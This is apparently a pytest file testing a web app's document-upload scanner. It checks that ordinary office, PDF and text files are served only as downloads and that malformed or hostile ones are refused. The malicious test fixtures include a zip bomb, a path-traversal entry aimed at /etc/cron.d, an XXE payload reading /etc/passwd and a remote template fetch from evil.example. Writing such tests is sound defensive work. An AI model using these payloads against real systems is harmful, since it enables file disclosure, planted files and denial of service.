"""Documents: looked through, and never opened by a browser of ours."""

import io
import zipfile

import pytest

from tests.files.sending import PDF, files, look, lying_about, office, send, work_through
from tests.make import make_post

HONEST = {
    "order.pdf": PDF,
    "letter.docx": office("docx"),
    "table.xlsx": office("xlsx"),
    "list.csv": "নাম,মৌজা\nরহিমা,কুলিয়া\n".encode(),
    "note.txt": "\ufeffLine\r\nLine".encode(),
}


@pytest.mark.parametrize("name", HONEST)
def test_a_document_is_given_as_it_came_and_only_to_be_kept(app, sign_in, name):
    post_id = make_post(app)
    browser = sign_in("rahima")
    assert send(browser, post_id, (name, HONEST[name]), alt="").status_code == 303
    assert "is being looked through" in browser.get(f"/posts/{post_id}").text
    work_through(app)
    (file,) = files(app)
    assert (
        f'href="/files/{file.id}/whole" download' in sign_in("omar").get(f"/posts/{post_id}").text
    )
    served = look(sign_in("omar"), file.id, "whole")
    assert served.data == HONEST[name]
    assert served.headers["Content-Disposition"] == f"attachment; filename={name}"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served.headers["Content-Security-Policy"]
    assert "default-src 'none'" in served.headers["Content-Security-Policy"]
    assert served.headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert served.headers["Cache-Control"] == "private, no-cache"
    assert lying_about(app, "incoming") == []
    assert look(browser, file.id, "large").status_code == 404


def lying_zip() -> bytes:
    """Its own list says that there is next to nothing in it."""
    data = bytearray(office("xlsx", xl__sheet_dot_xml=b"0" * 150_000_000))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def locked() -> bytes:
    data = bytearray(office("docx"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + place] |= 1
    return bytes(data)


def climbing() -> bytes:
    made = io.BytesIO(office("docx"))
    with zipfile.ZipFile(made, "a") as packed:
        packed.writestr("word/../../../etc/cron.d/x", b"x")
    return made.getvalue()


FETCHES = (
    b'<Relationships><Relationship Type="http://x/relationships/attachedTemplate"'
    b' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'


@pytest.mark.parametrize(
    ("name", "sent", "flaw"),
    [
        ("bomb.docx", office("docx", word__media__a_dot_bin=b"\0" * 120_000_000), "heavy"),
        ("liar.xlsx", lying_zip(), "broken"),
        ("many.xlsx", office("xlsx", **{f"a{n}": b"" for n in range(2_100)}), "heavy"),
        ("macro.docx", office("docx", word__vbaProject_dot_bin=b"\xd0\xcf"), "macro"),
        ("active.xlsx", office("xlsx", xl__activeX__a_dot_bin=b"x"), "macro"),
        ("locked.docx", locked(), "locked"),
        ("climbs.docx", climbing(), "broken"),
        ("xxe.docx", office("docx", word__styles_dot_xml=XXE), "broken"),
        ("wide.docx", office("docx", word__styles_dot_xml=XXE.decode().encode("utf-16")), "broken"),
        ("fetches.docx", office("docx", word___rels__settings_dot_xml_dot_rels=FETCHES), "reaches_out"),
        ("sheet.docx", office("xlsx"), "broken"),
        ("cut.xlsx", office("xlsx")[:120], "broken"),
        ("cut.pdf", b"%PDF-1.7\n1 0 obj", "broken"),
        ("bytes.txt", b"words\0words", "not_text"),
        ("old.csv", "naïve".encode("latin-1"), "not_text"),
    ],
)  # fmt: skip
def test_what_is_no_honest_document_is_refused_with_a_sentence(app, sign_in, name, sent, flaw):
    post_id = make_post(app)
    browser = sign_in("rahima")
    assert send(browser, post_id, (name, sent), alt="").status_code == 303
    work_through(app)
    (file,) = files(app)
    assert file.flaw == flaw
    assert lying_about(app, "incoming") == lying_about(app, "kept") == []
    assert "A document that you added to" in browser.get("/notifications?lang=en").text
    assert look(browser, file.id, "whole").status_code == 404
